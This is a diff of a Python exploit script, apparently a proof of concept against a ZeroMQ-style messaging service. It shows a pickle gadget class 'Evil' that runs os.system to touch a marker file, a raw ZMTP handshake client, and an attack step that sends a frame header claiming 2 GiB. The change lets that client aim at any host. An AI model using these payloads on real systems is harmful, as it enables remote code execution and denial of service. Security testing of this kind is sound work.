@@ -245,9 +245,9 @@ class Evil:
         return (os.system, (f"touch {self.path}",))
 
 
-def raw_zmtp_client(port: int) -> socket.socket:
+def raw_zmtp_client(port: int, host: str = "127.0.0.1") -> socket.socket:
     """A raw TCP peer that completes a ZMTP 3.0 NULL handshake as a DEALER."""
-    s = socket.create_connection(("127.0.0.1", port))
+    s = socket.create_connection((host, port))
     s.sendall(
         b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31
     )
@@ -282,7 +282,7 @@ def attack(address: str, key_guess: bytes, marker: Path) -> None:
     dealer.close()
     ctx.term()
     # 4. a frame header announcing 2 GiB
-    s = raw_zmtp_client(int(port))
+    s = raw_zmtp_client(int(port), host)
     s.sendall(b"\x02" + struct.pack(">Q", 2**31))
     time.sleep(0.2)
     s.close()
